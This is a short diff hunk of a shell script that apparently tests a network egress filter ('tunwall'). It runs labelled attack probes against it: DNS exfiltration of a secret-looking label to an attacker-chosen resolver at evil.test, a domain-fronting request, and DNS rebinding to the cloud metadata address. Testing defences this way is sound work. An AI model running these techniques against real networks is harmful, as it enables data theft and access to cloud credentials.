@@ -51,7 +51,7 @@ curl -sS --max-time 5 https://192.0.2.66/ ; echo "curl exit $?"
 say 'dig @192.0.2.66 secret-abc123.evil.test TXT   (DNS to an attacker-chosen resolver: an exfiltration attempt)'
 dig +short +tries=1 +time=3 @192.0.2.66 secret-abc123.evil.test TXT; dig +tries=1 +time=3 @192.0.2.66 secret-abc123.evil.test TXT | grep -o 'status: [A-Z]*'
 say 'curl -H "Host: evil.test" http://allowed.test/   (domain fronting)'
-curl -sS --max-time 5 -H 'Host: evil.test' http://allowed.test/
+curl -sS --max-time 5 -H 'Host: evil.test' -w '   (the body of an HTTP %{http_code} from tunwall)\n' http://allowed.test/ | tr -d '\n'; echo
 say 'curl http://rebind-metadata.test/      (an allowed name whose DNS answer is 169.254.169.254: rebinding)'
 curl -sS --max-time 5 http://rebind-metadata.test/ ; echo "curl exit $?"
 say 'ping -c1 allowed.test'
